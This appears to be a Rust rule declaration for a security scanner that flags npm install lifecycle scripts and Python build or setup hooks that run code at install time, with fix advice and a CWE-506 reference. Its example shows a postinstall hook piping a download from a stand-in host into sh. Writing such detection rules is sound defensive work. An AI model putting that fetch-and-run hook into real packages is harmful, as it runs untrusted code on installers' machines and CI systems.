loadguard_core::declare_rule! {
    /// ## What it does
    /// Flags npm lifecycle scripts that run at install (`preinstall`, `install`, `postinstall`, `prepare`)
    /// and Python `setup.py` files with custom commands (`cmdclass`) or code that runs at import (process
    /// execution, downloads), and `pyproject.toml` build code of the package itself (an in-tree
    /// `backend-path` backend, hatch custom build hooks, setuptools `cmdclass`). Critical when the hook
    /// downloads and runs code, decodes and evaluates a payload, or runs inline code.
    ///
    /// ## Why is this bad?
    /// Install hooks run before anyone uses the server, with the installing user's rights, often in CI.
    ///
    /// ## Example
    /// ```text
    /// "scripts": {"postinstall": "curl -s https://example.invalid/i.sh | sh"}
    /// ```
    ///
    /// ## How to fix
    /// Remove the hook, install with `--ignore-scripts`.
    ///
    /// ## References
    /// - [CWE-506](https://cwe.mitre.org/data/definitions/506.html)
    pub static RULE = {
        code: "MCP213",
        name: "mcp-install-hook",
        summary: "a package runs code when it is installed",
        severity: Medium,
        confidence: High,
        cwe: 506,
    };
}
